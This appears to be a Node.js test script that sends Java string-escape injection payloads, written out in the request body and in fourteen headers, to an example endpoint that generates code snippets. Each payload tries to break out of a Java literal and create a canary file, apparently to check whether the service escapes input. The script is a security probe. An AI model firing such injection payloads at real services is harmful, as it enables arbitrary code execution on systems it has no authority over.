import { once } from "node:events";
import https from "node:https";
import { text } from "node:stream/consumers";

const body = `"+new java.io.FileOutputStream("snipgen-canary")+"
\\u0022+new java.io.FileOutputStream(\\u0022snipgen-canary\\u0022)+\\u0022
\\uuuu0022+new java.io.FileOutputStream(\\uuuu0022snipgen-canary\\uuuu0022)+\\uuuu0022
\\\\u0022+x+\\\\u0022
\\"+new java.io.FileOutputStream("snipgen-canary")+\\"
"""+new java.io.FileOutputStream("snipgen-canary")+"""
\\u002a\\u002f new java.io.FileOutputStream("snipgen-canary"); \\u002f\\u002a
// \\u000a new java.io.FileOutputStream("snipgen-canary");
\\u005c
\\u005c\\u0022
\\uXYZW
\\{new java.io.FileOutputStream("snipgen-canary")}
%s %n \${x}
\\`;

const request = https.request("https://api.example.com/run", {
  method: "POST",
  headers: {
    "X-Try-1": "\"+new java.io.FileOutputStream(\"snipgen-canary\")+\"",
    "X-Try-2": "\\u0022+new java.io.FileOutputStream(\\u0022snipgen-canary\\u0022)+\\u0022",
    "X-Try-3": "\\uuuu0022+new java.io.FileOutputStream(\\uuuu0022snipgen-canary\\uuuu0022)+\\uuuu0022",
    "X-Try-4": "\\\\u0022+x+\\\\u0022",
    "X-Try-5": "\\\"+new java.io.FileOutputStream(\"snipgen-canary\")+\\\"",
    "X-Try-6": "\"\"\"+new java.io.FileOutputStream(\"snipgen-canary\")+\"\"\"",
    "X-Try-7": "\\u002a\\u002f new java.io.FileOutputStream(\"snipgen-canary\"); \\u002f\\u002a",
    "X-Try-8": "// \\u000a new java.io.FileOutputStream(\"snipgen-canary\");",
    "X-Try-9": "\\u005c",
    "X-Try-10": "\\u005c\\u0022",
    "X-Try-11": "\\uXYZW",
    "X-Try-12": "\\{new java.io.FileOutputStream(\"snipgen-canary\")}",
    "X-Try-13": "%s %n ${x}",
    "X-Try-14": "\\",
    "Content-Type": "text/plain",
  },
});
request.end(body);

const [response] = await once(request, "response");
console.log(await text(response));
